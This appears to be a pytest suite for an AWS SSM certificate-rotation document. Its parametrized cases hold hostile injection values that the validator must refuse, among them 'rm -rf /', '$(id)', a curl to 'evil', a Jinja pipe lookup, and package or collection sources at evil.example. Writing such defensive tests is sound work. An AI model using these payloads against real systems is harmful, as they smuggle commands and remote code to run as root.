"""The SSM Command document: one document in two formats, every parameter documented and
used, and defaults that pass their own validation and match requirements.txt."""

import re
import subprocess

import pytest
import yaml

from helpers.ssm_document import DOCUMENT_YAML, PARAMETER_REFERENCE, REPO, load_document, render_script, resolve_parameters


@pytest.fixture(scope="module")
def document():
    return load_document()


def test_json_and_yaml_are_the_same_document(document):
    with open(DOCUMENT_YAML) as handle:
        assert yaml.safe_load(handle) == document


def test_schema_and_one_linux_shell_step(document):
    assert document["schemaVersion"] == "2.2" and document["description"]
    (step,) = document["mainSteps"]
    assert step["action"] == "aws:runShellScript"
    assert step["precondition"] == {"StringEquals": ["platformType", "Linux"]}


def test_every_parameter_is_documented_typed_and_used(document):
    step_text = str(document["mainSteps"])
    used = set(PARAMETER_REFERENCE.findall(step_text))
    assert used == set(document["parameters"])
    for name, spec in document["parameters"].items():
        assert spec["type"] == "String" and spec["description"], name
        assert "allowedPattern" in spec or "allowedValues" in spec, "%s is substituted into a shell script unchecked" % name


def test_defaults_pass_their_own_validation(document):
    assert resolve_parameters(document, {})["CertificatesFile"] == "/etc/certfleet/certfleet.yml"


@pytest.mark.parametrize("name, value", [
    ("ForceRenew", "web; rm -rf /"),
    ("CollectionSource", "certfleet.pki' && curl evil"),
    ("ExtraVariables", "{\"a\": \"$(id)\"}"),
    ("CertificateAuthorityArn", "arn:aws:acm-pca:eu-west-1:123456789012:certificate-authority/x'"),
    ("Check", "yes"),
])
def test_shell_metacharacters_are_refused(document, name, value):
    with pytest.raises(ValueError, match=name):
        resolve_parameters(document, {name: value})


def test_python_requirements_default_matches_requirements_txt(document):
    with open(REPO + "/requirements.txt") as handle:
        pinned = [line.strip() for line in handle if line.strip() and not line.startswith("#")]
    assert document["parameters"]["PythonRequirements"]["default"].split() == pinned


def test_rendered_script_passes_shellcheck(document, tmp_path):
    script = tmp_path / "rotate.sh"
    script.write_text(render_script(document, {
        "CertificateAuthorityArn": "arn:aws:acm-pca:eu-west-1:123456789012:certificate-authority/0a1b2c3d-aaaa-bbbb-cccc-0123456789ab",
        "ForceRenew": "web,api", "Check": "True"}))
    assert not re.search(r"\{\{", script.read_text())
    lint = subprocess.run(["shellcheck", str(script)], capture_output=True, text=True, check=False)
    assert lint.returncode == 0, lint.stdout


# Someone allowed ssm:SendCommand on this document only must not run code of their choice as root.
@pytest.mark.parametrize("name, value", [
    ("ExtraVariables", "{\"c\": \"{{ lookup('pipe', 'id') }}\"}"),
    ("ExtraVariables", "{\"c\": \"{{ lookup(\"pipe\", \"id\") }}\"}"),
    ("ExtraVariables", "{\"certfleet_keep_versions\": \"{{ 7 * 7 }}\"}"),
    ("ExtraVariables", "{\"certfleet_nginx_reload_command\": [\"sh\", \"-c\", \"id\"]}"),
    ("ExtraVariables", "{\"certfleet_reload_test_command\": \"id\"}"),
    ("ExtraVariables", "{\"certfleet_renewal_jitter\": \"{{ 1 }}\"}"),
    ("ExtraVariables", "{\"ansible_python_interpreter\": \"/tmp/evil\"}"),
    ("PythonRequirements", "evil-package==1.0"),
    ("PythonRequirements", "ansible @ https://evil.example/ansible.tar.gz"),
    ("PythonRequirements", "--index-url=https://evil.example/simple ansible==12.3.0"),
    ("PythonRequirements", "ansible"),
    ("CollectionSource", "https://evil.example/certfleet-pki-0.1.0.tar.gz"),
    ("CollectionSource", "certfleet.pki"),
    ("CollectionSource", "evil.collection:==1.0.0"),
    ("CollectionSource", "/tmp/../etc/x.tar.gz x"),
    # Issue 29, defect 8: files anyone on the instance could write are not root's to run.
    ("CollectionSource", "/tmp/certfleet-pki-0.1.0.tar.gz"),
    ("CollectionSource", "/opt/certfleet/artifacts/../../../tmp/certfleet-pki-0.1.0.tar.gz"),
    ("CertificatesFile", "/tmp/certfleet.yml"),
    ("CertificatesFile", "/home/user/certfleet.yml"),
    ("CertificatesFile", "/etc/certfleet/../../tmp/x.yml"),
    ("CertificatesFile", "/etc/certfleet/sub/x.yml"),
    ("Template", "EndEntityServerAuthCertificate\"}, \"x\": {\"a"),
])
def test_privilege_escalation_attempts_are_refused_by_the_documents_patterns(document, name, value):
    with pytest.raises(ValueError, match=name):
        resolve_parameters(document, {name: value})


@pytest.mark.parametrize("name, value", [
    ("ExtraVariables", "{\"certfleet_renewal_jitter\": 0}"),
    ("ExtraVariables", "{\"certfleet_renewal_jitter\": 0.1, \"certfleet_keep_versions\": 4}"),
    ("CollectionSource", "certfleet.pki:==0.2.0"),
    ("CollectionSource", "/opt/certfleet/artifacts/certfleet-pki-0.1.0.tar.gz"),
    ("CertificatesFile", "/etc/certfleet/web-tier.yaml"),
    ("PythonRequirements", "ansible==12.3.0 cryptography>=43,<51"),
])
def test_what_operators_need_still_passes(document, name, value):
    assert resolve_parameters(document, {name: value})[name] == value


def test_the_default_collection_source_is_pinned(document):
    assert re.fullmatch(r"certfleet\.pki:==\d+\.\d+\.\d+", document["parameters"]["CollectionSource"]["default"])


def test_the_default_template_is_one_the_instance_policy_allows(document):
    """The document's issuer and docs/iam.md's instance policy, read together: every
    issuance must be allowed, or each run ends in AccessDenied."""
    import fnmatch
    import json
    with open(REPO + "/docs/iam.md") as handle:
        text = handle.read()
    section = text.split("## EC2 instance role for SSM Run Command", 1)[1].split("\n## ", 1)[0]
    policy = json.loads(re.search(r"```json\n(.*?)```", section, re.S).group(1))
    (issue,) = [s for s in policy["Statement"] if s["Action"] == "acm-pca:IssueCertificate"]
    allowed = issue["Condition"]["ArnLike"]["acm-pca:TemplateArn"]
    template = document["parameters"]["Template"]["default"]
    template_arn = "arn:aws:acm-pca:::template/%s/V1" % template
    assert any(fnmatch.fnmatchcase(template_arn, pattern) for pattern in allowed), (template_arn, allowed)
    script = render_script(document, {"CertificateAuthorityArn":
                                      "arn:aws:acm-pca:eu-west-1:123456789012:certificate-authority/0a1b2c3d-aaaa-bbbb-cccc-0123456789ab"})
    assert '\\"template\\": \\"$template\\"' in script and "template='%s'" % template in script
